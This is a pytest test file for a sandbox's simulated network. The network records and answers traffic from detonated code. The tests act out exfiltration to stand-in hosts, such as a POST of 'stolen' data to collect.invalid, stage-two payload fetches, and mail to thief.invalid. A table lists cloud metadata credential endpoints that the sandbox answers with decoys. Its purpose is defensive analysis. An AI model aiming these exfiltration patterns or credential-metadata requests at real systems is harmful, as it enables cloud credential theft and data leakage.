"""The network that leads nowhere, asked by real clients."""

from __future__ import annotations

import smtplib
import socket
import ssl
import threading
from email.message import EmailMessage

import httpx
import pytest

from stockade import limits
from stockade.acquire.detonate.network import Nowhere
from stockade.acquire.detonate.network.metadata import told
from stockade.acquire.detonate.network.names import Names
from stockade.acquire.detonate.network.requests import parsed
from stockade.acquire.detonate.network.serving import Server
from stockade.model.observation import Stage
from tests.support.nowhere import nowhere, query, reached


def test_every_name_leads_to_an_address_of_its_own_and_connections_are_told_by_it() -> None:
    network = nowhere((80,), (53,))
    with reached(network) as here:
        first, again, other = (here.look_up(name) for name in ("a.invalid", "A.invalid", "b.invalid"))
        assert here.look_up("metadata.google.internal") == ("169.254.169.254",)
        assert here.look_up("a.invalid", 28) == ()  # no IPv6, and no error
        assert here.look_up("a.invalid", 16) == (b"\x0bv=spf1 -all".hex(),)
        assert len(here.look_up("a.invalid", 15)) == 1
    assert first == again != other
    told = [(one.protocol, one.host, one.port, one.summary) for one in here.exchanges]
    assert told[0] == ("dns", "a.invalid", 53, "A a.invalid")
    assert ("dns", "a.invalid", 53, "AAAA a.invalid") in told
    assert here.exchanges[0].sent == query("a.invalid")
    with reached(network) as here:  # the same in the next run
        assert here.look_up("a.invalid") == first


def test_a_request_is_written_down_with_its_body_and_gets_a_plausible_answer() -> None:
    with reached(nowhere()) as here, httpx.Client() as client:
        url = f"http://127.0.0.1:{here.streams[80]}"
        answer = client.post(
            f"{url}/collect?x=1", json={"stolen": "s3cr3t"}, headers={"Host": "collect.invalid"}
        )
        again = client.get(f"{url}/next", headers={"Host": "collect.invalid:80"})
    assert (answer.status_code, answer.json()["ok"], again.status_code) == (200, True, 200)
    first, second = here.exchanges
    assert (first.protocol, first.host, first.port, first.summary) == (
        "http",
        "collect.invalid",
        80,
        "POST /collect?x=1",
    )
    assert first.sent.startswith(b"POST /collect?x=1 HTTP/1.1\r\n") and first.sent.endswith(
        b'\r\n\r\n{"stolen":"s3cr3t"}'
    )
    assert (second.summary, second.stage, second.cut) == ("GET /next", Stage.IMPORT, False)


@pytest.mark.parametrize(
    ("path", "agent", "body"),
    [
        ("/stage2.py?v=1", "python", "# nothing\n"),
        ("/run.sh", "python", "# nothing\n"),
        ("/install", "curl/8", "# nothing\n"),
    ],
)
def test_what_would_be_run_is_answered_by_lines_that_do_nothing(path: str, agent: str, body: str) -> None:
    with reached(nowhere()) as here:
        got = httpx.get(f"http://127.0.0.1:{here.streams[80]}{path}", headers={"User-Agent": agent})
        head = httpx.head(f"http://127.0.0.1:{here.streams[80]}{path}")
    assert got.text == body
    assert head.status_code == 200 and not head.content


def test_who_asks_for_its_own_address_gets_one() -> None:
    with reached(nowhere()) as here:
        url = f"http://127.0.0.1:{here.streams[80]}"
        plain = httpx.get(url, headers={"Host": "api.address.invalid"})
        parsed = httpx.get(f"{url}/?format=json", headers={"Host": "api.address.invalid"})
    assert plain.text == "198.51.100.24\n"
    assert parsed.json()["ip"] == "198.51.100.24"


def test_chunks_lose_their_sizes_so_that_what_they_carry_is_in_one_piece() -> None:
    with reached(nowhere()) as here, httpx.Client() as client:
        url = f"http://127.0.0.1:{here.streams[80]}/in"
        client.post(url, content=iter([b"one mar", b"ker in p" * 20_000, b"ieces"]))
        client.post(url, content=b"second")
    first, second = here.exchanges
    assert first.sent.endswith(b"\r\n\r\none mar" + b"ker in p" * 20_000 + b"ieces")
    assert second.sent.endswith(b"\r\n\r\nsecond")


def test_who_waits_to_be_told_to_go_on_is_told() -> None:
    with reached(nowhere()) as here, here.connect() as wire:
        wire.sendall(b"POST /in HTTP/1.1\r\nExpect: 100-continue\r\nContent-Length: 4\r\n\r\n")
        assert wire.recv(100) == b"HTTP/1.1 100 Continue\r\n\r\n"
        wire.sendall(b"body")
        assert wire.recv(100).startswith(b"HTTP/1.1 200 OK\r\n")
    assert here.exchanges[0].sent.endswith(b"\r\n\r\nbody")


def test_on_any_port_it_is_tls_where_the_first_bytes_say_so() -> None:
    with reached(nowhere((443, 4444))) as here:
        for port in (443, 4444):
            with here.secured(port, "collect.invalid") as wire:
                wire.sendall(b"POST /x HTTP/1.1\r\nHost: other.invalid\r\nContent-Length: 2\r\n\r\nhi")
                assert wire.recv(100).startswith(b"HTTP/1.1 200 OK")
        with here.secured(4444, "raw.invalid") as wire:
            wire.sendall(b"\x00\x01 something else")
    told = [(one.protocol, one.host, one.port, one.summary) for one in here.exchanges]
    assert told == [
        ("https", "collect.invalid", 443, "POST /x"),
        ("https", "collect.invalid", 4444, "POST /x"),
        ("tcp", "raw.invalid", 4444, ""),
    ]
    assert here.exchanges[0].sent.endswith(b"\r\n\r\nhi")
    assert here.exchanges[2].sent == b"\x00\x01 something else"


def test_who_does_not_trust_the_certificate_is_written_down() -> None:
    with reached(nowhere((443,))) as here:
        context = ssl.create_default_context()
        with here.connect(443) as plain, pytest.raises(ssl.SSLCertVerificationError):
            context.wrap_socket(plain, server_hostname="pinned.invalid")
        with here.connect(443) as plain:
            plain.sendall(b"\x16\x03\x01\x00\x10 no hello at all")
            plain.shutdown(socket.SHUT_WR)
            plain.recv(100)
        with here.connect(443) as plain:
            plain.sendall(b"\x16\x03\x01\x02\x00\x01\x00")
    told = [(one.protocol, one.host, one.summary) for one in here.exchanges]
    assert told[0] == ("https", "pinned.invalid", "TLS that was broken off")
    assert told[1:] == [("https", "127.0.0.1", "TLS that was broken off")] * 2


def test_letters_are_taken_with_who_wrote_them_and_the_password() -> None:
    letter = EmailMessage()
    letter["Subject"], letter["From"], letter["To"] = "found", "a@thief.invalid", "b@thief.invalid"
    letter.set_content("the secret is s3cr3t")
    with reached(nowhere((25, 465))) as here:
        context = ssl.create_default_context(cadata=here.network.ca_pem.decode())
        context.check_hostname = False
        with smtplib.SMTP("127.0.0.1", here.streams[25], timeout=20) as client:
            client.starttls(context=context)
            client.login("lena", "pass")
            client.send_message(letter)
        with smtplib.SMTP_SSL("127.0.0.1", here.streams[465], context=context, timeout=20) as client:
            client.user, client.password = "lena", "pass"
            client.ehlo()
            client.auth("LOGIN", client.auth_login)
            client.send_message(letter)
            client.noop()
    assert [one.protocol for one in here.exchanges] == ["smtp", "smtp"]
    for one in here.exchanges:
        assert (
            one.summary.startswith("MAIL FROM:<a@thief.invalid>")
            and "RCPT TO:<b@thief.invalid>" in one.summary
        )
        assert b"the secret is s3cr3t\r\n.\r\n" in one.sent
    assert b"AUTH PLAIN AGxlbmEAcGFzcw==" in here.exchanges[0].sent
    assert b"bGVuYQ==" in here.exchanges[1].sent and b"cGFzcw==" in here.exchanges[1].sent


def test_mail_that_is_sent_to_another_port_is_known_by_its_first_word() -> None:
    with reached(nowhere((8025,))) as here, here.connect(8025) as wire:
        wire.sendall(b"EHLO me\r\nAUTH PLAIN\r\nabc\r\nQUIT\r\n")
        held = b""
        while data := wire.recv(1000):
            held += data
        assert held.endswith(b"334 \r\n235 2.7.0 accepted\r\n221 bye\r\n")
    assert here.exchanges[0].sent == b"EHLO me\r\nAUTH PLAIN\r\nabc\r\nQUIT\r\n"


def test_whatever_else_is_sent_is_swallowed() -> None:
    with reached(nowhere((4444, 6667), (9999,))) as here:
        with here.connect(4444) as wire:
            wire.sendall(b"\x00\x01\x02 hello")
        with here.connect(6667):
            pass  # says nothing
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as flying:
            flying.sendto(b"datagram", ("127.0.0.1", here.datagrams[9999]))
    told = {(one.protocol, one.host, one.port): one.sent for one in here.exchanges}
    assert told == {
        ("tcp", "127.0.0.1", 4444): b"\x00\x01\x02 hello",
        ("tcp", "127.0.0.1", 6667): b"",
        ("udp", "127.0.0.1", 9999): b"datagram",
    }


def test_names_are_looked_up_over_tcp_and_what_is_no_query_is_kept() -> None:
    with reached(nowhere((53,), (53,))) as here:
        asked = query("data.collect.invalid")
        with here.connect(53) as wire:
            wire.sendall(len(asked).to_bytes(2, "big") + asked)
            size = int.from_bytes(wire.recv(2), "big")
            assert wire.recv(size)[:2] == b"\x12\x34"
            wire.sendall(b"\0\4junk")
            assert wire.recv(1) == b""
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as flying:
            for junk in (b"junk", asked[:20], asked[:12] + b"\xc0" + asked[13:], b"\0\0\x80" + asked[3:]):
                flying.sendto(junk, ("127.0.0.1", here.datagrams[53]))
    protocols = [one.protocol for one in here.exchanges]
    assert protocols == ["dns", "udp", "udp", "udp", "udp", "udp"]
    assert here.exchanges[0].host == "data.collect.invalid"


def test_datagrams_are_answered_from_the_address_that_was_asked() -> None:
    with reached(nowhere((), (53,)), address="0.0.0.0") as here:
        assert here.look_up("a.invalid", address="127.0.0.7") == here.look_up(
            "a.invalid", address="127.0.0.9"
        )


def test_a_proxy_is_a_tunnel_to_whom_it_is_asked_for() -> None:
    with reached(nowhere((3128,))) as here:
        context = ssl.create_default_context(cadata=here.network.ca_pem.decode())
        proxy = f"http://127.0.0.1:{here.streams[3128]}"
        with httpx.Client(proxy=proxy, verify=context) as client:
            assert client.post("https://collect.invalid/in", content=b"hi").json()["ok"]
            assert client.get("http://plain.invalid/in").json()["ok"]
    told = [(one.protocol, one.host, one.summary) for one in here.exchanges]
    assert told == [
        ("http", "collect.invalid", "CONNECT collect.invalid:443"),
        ("https", "collect.invalid", "POST /in"),
        ("http", "plain.invalid", "GET /in"),
    ]


def test_tunnels_within_tunnels_have_an_end() -> None:
    with reached(nowhere()) as here, here.connect() as wire:
        for _ in range(limits.MAX_NOWHERE_TUNNELS + 1):
            wire.sendall(b"CONNECT a.invalid:80 HTTP/1.1\r\n\r\n")
            assert wire.recv(1000).startswith(b"HTTP/1.1 200")
    assert len(here.exchanges) == limits.MAX_NOWHERE_TUNNELS + 1


@pytest.mark.parametrize("size", [5, 300, 70_000])
def test_frames_of_a_web_socket_are_unmasked(size: int) -> None:
    data, keys = (b"marker" * size)[:size], b"\x01\x02\x03\x04"
    masked = bytes(one ^ keys[at % 4] for at, one in enumerate(data))
    length = (
        bytes([0x80 | size])
        if size < 126
        else b"\xfe" + size.to_bytes(2, "big")
        if size < 65536
        else b"\xff" + size.to_bytes(8, "big")
    )
    with reached(nowhere()) as here, here.connect() as wire:
        wire.sendall(
            b"GET /chat HTTP/1.1\r\nHost: a.invalid\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
            b"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n"
        )
        assert b"s3pPLMBiTxaQ9kYGzzhZRbK+xOo=" in wire.recv(1000)  # RFC 6455, section 1.3
        wire.sendall(b"\x82" + length + keys + masked + b"\x81\x02ok")
    assert here.exchanges[0].sent.endswith(data + b"ok")


METADATA = [
    ("169.254.169.254", "GET", "/latest/meta-data/iam/security-credentials/", {}, "web-prod"),
    ("169.254.169.254", "GET", "/latest/meta-data/iam/security-credentials/web-prod", {}, "SecretAccessKey"),
    ("169.254.169.254", "GET", "/latest/meta-data/nothing", {}, "not found"),
    ("169.254.169.254", "GET", "/latest/api/token", {}, ""),
    ("169.254.169.254", "GET", "/computeMetadata/v1/instance/service-accounts/default/token", {}, "Missing"),
    (
        "169.254.169.254",
        "GET",
        "/computeMetadata/v1/instance/service-accounts/default/token",
        {"Metadata-Flavor": "Google"},
        "access_token",
    ),
    ("169.254.169.254", "GET", "/metadata/identity/oauth2/token?resource=x", {}, "Bad request"),
    (
        "169.254.169.254",
        "GET",
        "/metadata/identity/oauth2/token?resource=x",
        {"Metadata": "true"},
        "access_token",
    ),
    ("100.100.100.200", "GET", "/latest/meta-data/ram/security-credentials/web-prod", {}, "AccessKeySecret"),
    ("169.254.0.23", "GET", "/latest/meta-data/cam/security-credentials/web-prod", {}, "TmpSecretKey"),
    ("169.254.170.2", "GET", "/v2/credentials/1234", {}, "SecretAccessKey"),
    ("169.254.170.2", "GET", "/v2/metadata", {}, "Cluster"),
]


@pytest.mark.parametrize(("address", "method", "path", "headers", "said"), METADATA)
def test_metadata_services_hand_out_decoys(
    address: str, method: str, path: str, headers: dict[str, str], said: str
) -> None:
    served = nowhere()
    answer = told(parsed(_head(method, path, headers)), address, served.machines)
    assert said in answer.body.decode()


def test_a_session_is_asked_for_first() -> None:
    served = nowhere()
    asked = _head("PUT", "/latest/api/token", {"X-aws-ec2-metadata-token-ttl-seconds": "60"})
    answer = told(parsed(asked), "169.254.169.254", served.machines)
    assert answer.body.decode() == served.machines.session
    assert answer.headers == {"X-Aws-Ec2-Metadata-Token-Ttl-Seconds": "60"}


def _head(method: str, path: str, headers: dict[str, str]) -> bytes:
    fields = "".join(f"{name}: {value}\r\n" for name, value in headers.items())
    return f"{method} {path} HTTP/1.1\r\n{fields}\r\n".encode()


def test_half_a_request_is_kept_when_it_ends() -> None:
    with reached(nowhere()) as here:
        for half in (
            b"POST /a HTTP/1.1\r\nHost: a.inv",
            b"POST /b HTTP/1.1\r\nContent-Length: 100\r\n\r\nsome",
            b"POST /c HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nmar",
            b"POST /d HTTP/1.1\r\nContent-Length: nonsense\r\nConnection: close\r\n\r\n",
        ):
            with here.connect() as wire:
                wire.sendall(half)
    sent = {one.sent: one.cut for one in here.exchanges}
    assert len(sent) == 4
    assert sent[b"POST /a HTTP/1.1\r\nHost: a.inv"]
    assert sent[b"POST /b HTTP/1.1\r\nContent-Length: 100\r\n\r\nsome"]
    assert sent[b"POST /c HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\nmar"]


def test_what_was_sent_last_is_read_although_nobody_is_left(monkeypatch: pytest.MonkeyPatch) -> None:
    for heard in ("listen", "receive"):  # nobody gets to it before the end
        monkeypatch.setattr(Server, heard, lambda *_: None)
    with reached(nowhere((80,), (9999,))) as here:
        for number in range(20):
            with here.connect() as wire:
                wire.sendall(b"GET /%d HTTP/1.1\r\n\r\n" % number)
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as flying:
            flying.sendto(b"last words", ("127.0.0.1", here.datagrams[9999]))
    told = sorted(one.summary for one in here.exchanges if one.protocol == "http")
    assert told == sorted(f"GET /{number}" for number in range(20))
    assert [one.sent for one in here.exchanges if one.protocol == "udp"] == [b"last words"]


def test_who_stays_silent_or_speaks_slowly_holds_up_nobody(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(limits, "NOWHERE_PATIENCE", 0.2)
    monkeypatch.setattr(limits, "NOWHERE_GRACE", 0.2)
    with reached(nowhere((80, 4444))) as here:
        with here.connect() as silent, here.connect(4444) as slow:
            slow.sendall(b"ab")
            assert silent.recv(10) == b"" and slow.recv(10) == b""
        hanging = here.connect()
        hanging.sendall(b"POST /x HTTP/1.1\r\nContent-Length: 9\r\n\r\nhalf")
    hanging.close()
    assert sorted(one.sent[-4:] for one in here.exchanges) == [b"", b"ab", b"half"]


def test_how_much_is_kept_is_bounded_and_that_it_was_cut_is_said(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(limits, "MAX_EXCHANGE", 1000)
    monkeypatch.setattr(limits, "MAX_EXCHANGED", 1500)
    monkeypatch.setattr(limits, "MAX_EXCHANGES", 3)
    network = nowhere((4444,))
    with reached(network) as here:
        for _ in range(2):
            with here.connect(4444) as wire:
                wire.sendall(b"x" * 100_000)
                wire.shutdown(socket.SHUT_WR)
                assert wire.recv(1) == b""
    assert [(len(one.sent), one.cut) for one in here.exchanges] == [(1000, True), (500, True)]
    with reached(network) as here:
        for _ in range(3):
            with here.connect(4444) as wire:
                wire.sendall(b"y")
                wire.shutdown(socket.SHUT_WR)
                assert wire.recv(1) == b""
    assert [(one.sent, one.cut) for one in here.exchanges] == [(b"", True)]
    cut, lost = "more was sent than is kept", "2 more connections or datagrams were not written down"
    assert [gap.why for gap in network.gaps] == [cut, lost, cut]


def test_too_many_connections_at_once_are_sent_away_and_counted(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(limits, "MAX_NOWHERE_CONNECTIONS", 2)
    network = nowhere()
    with reached(network) as here:
        held = [here.connect() for _ in range(2)]
        for wire in held:
            wire.sendall(b"GET / HTTP/1.1\r\n\r\n")
            assert wire.recv(10)
        with here.connect() as third:
            assert third.recv(10) == b""
        for wire in held:
            wire.close()
    assert [gap.why for gap in network.gaps] == ["1 more connections or datagrams were not written down"]


def test_more_names_than_there_is_room_for_share_an_address(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(limits, "MAX_NOWHERE_NAMES", 2)
    names = Names()
    addresses = [names.address(f"{number}.invalid") for number in range(4)]
    assert len(set(addresses)) == 3 and addresses[2] == addresses[3]
    assert names.name(addresses[0]) == "0.invalid" and names.name(addresses[3]) == addresses[3]


def test_ports_can_be_added() -> None:
    network = nowhere((80,))
    assert network.listen(4711) and network.listen(4711, stream=False)
    assert not network.listen(80)
    assert [(one.port, one.stream) for one in network.listeners] == [(80, True), (4711, True), (4711, False)]
    with reached(network) as here, here.connect(4711) as wire:
        wire.sendall(b"hello, port")
    assert here.exchanges[0].port == 4711


def test_the_ports_of_a_whole_network_can_be_handed_out() -> None:
    network = Nowhere(nowhere().machines)
    assert len({(one.port, one.stream) for one in network.listeners}) == len(network.listeners)
    assert len(network.listeners) <= limits.MAX_NOWHERE_LISTENERS


def test_the_thread_ends_with_whoever_opened_it() -> None:
    before = threading.active_count()
    with pytest.raises(RuntimeError, match="mine"), reached(nowhere()):
        raise RuntimeError("mine")
    assert threading.active_count() == before
